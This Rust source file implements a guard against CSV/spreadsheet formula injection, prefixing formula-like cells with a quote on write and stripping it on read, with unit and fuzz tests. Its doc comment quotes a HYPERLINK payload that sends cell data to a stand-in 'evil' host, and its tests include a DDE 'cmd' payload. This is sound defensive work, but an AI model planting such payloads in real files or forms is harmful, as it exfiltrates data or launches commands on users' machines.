//! The spreadsheet formula guard (CSV injection): a cell that starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets when the
//! file is opened, so a contact named `=HYPERLINK("http://evil/?"&A1,"Click")` typed into a
//! web form would run in whoever opens the export. The guard writes such a value with a
//! leading `'` (the spreadsheet convention for "this is text") and strips it again on read.
//!
//! * Numbers are never guarded: `-5`, `+3.25`, `-1e3` are values, not formulas.
//! * The guard is a bijection, so a guarded value reads back as the value written and a sync
//!   never sees a change that is not there: a value that already starts with `'` in front of
//!   something the guard would protect (`'=x`) gets one more `'` (`''=x`), which the read
//!   strips again.

use std::borrow::Cow;

use serde::Deserialize;

/// `formula_guard:` on a csv connector.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FormulaGuard {
    /// Prefix formula-like text with `'` on write, strip it on read (the default).
    #[default]
    Quote,
    /// Write and read every value verbatim (files read by programs, not people).
    Off,
}

/// Whether `v` starts like a formula (and is not a plain number).
fn starts_like_formula(v: &str) -> bool {
    matches!(v.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r')) && !is_number(v)
}

/// A plain decimal number: optional sign, digits with an optional point, optional exponent.
fn is_number(v: &str) -> bool {
    let body = v.strip_prefix(['+', '-']).unwrap_or(v);
    let (mantissa, exponent) = match body.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e)),
        None => (body, None),
    };
    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = !(int.is_empty() && frac.is_empty()) && digits(int) && digits(frac);
    let exponent_ok = exponent.is_none_or(|e| {
        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
        !e.is_empty() && digits(e)
    });
    mantissa_ok && exponent_ok
}

/// Whether the guard prefixes `v`: formula-like, or quotes in front of formula-like text
/// (so that the read can tell a guard from a value's own quote).
fn needs_guard(v: &str) -> bool {
    let rest = v.trim_start_matches('\'');
    starts_like_formula(rest)
}

/// `v` as it is written to the file under `mode`.
#[must_use]
pub fn guard(mode: FormulaGuard, v: &str) -> Cow<'_, str> {
    if mode == FormulaGuard::Quote && needs_guard(v) {
        Cow::Owned(format!("'{v}"))
    } else {
        Cow::Borrowed(v)
    }
}

/// The value of a cell written by [`guard`] under `mode`.
#[must_use]
pub fn unguard(mode: FormulaGuard, cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if mode == FormulaGuard::Quote && needs_guard(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const Q: FormulaGuard = FormulaGuard::Quote;

    #[test]
    fn formulas_are_quoted_and_numbers_are_not() {
        for (v, written) in [
            ("=1+2", "'=1+2"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("'=1", "''=1"),
            ("-5", "-5"),
            ("+3.25", "+3.25"),
            ("-1e3", "-1e3"),
            ("-.5", "-.5"),
            ("Ada", "Ada"),
            ("'quoted'", "'quoted'"),
            ("", ""),
        ] {
            assert_eq!(guard(Q, v), written, "{v:?}");
            assert_eq!(unguard(Q, written), v, "{written:?}");
        }
        assert_eq!(guard(FormulaGuard::Off, "=1"), "=1");
        assert_eq!(unguard(FormulaGuard::Off, "'=1"), "'=1");
    }

    /// Cases per property: `PROPTEST_CASES` (scripts/fuzz.sh runs many), else a CI-sized default.
    fn cases() -> u32 {
        std::env::var("PROPTEST_CASES")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(256)
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(cases()))]

        /// Every value reads back as written (no flip on the next run), no written cell starts
        /// like a formula, and numbers are written as they are.
        #[test]
        fn fuzz_formula_guard_round_trips(v in proptest::prop_oneof![
            "['=+@\t\r-]{0,3}[a-z0-9.e+-]{0,6}",
            "[+-]?[0-9]{1,4}(\\.[0-9]{0,3})?",
            proptest::prelude::any::<String>(),
        ]) {
            let written = guard(Q, &v);
            proptest::prop_assert_eq!(unguard(Q, &written), v.as_str());
            proptest::prop_assert!(!starts_like_formula(&written), "{:?} -> {:?}", v, written);
            if is_number(&v) {
                proptest::prop_assert_eq!(written.as_ref(), v.as_str());
            }
        }
    }
}
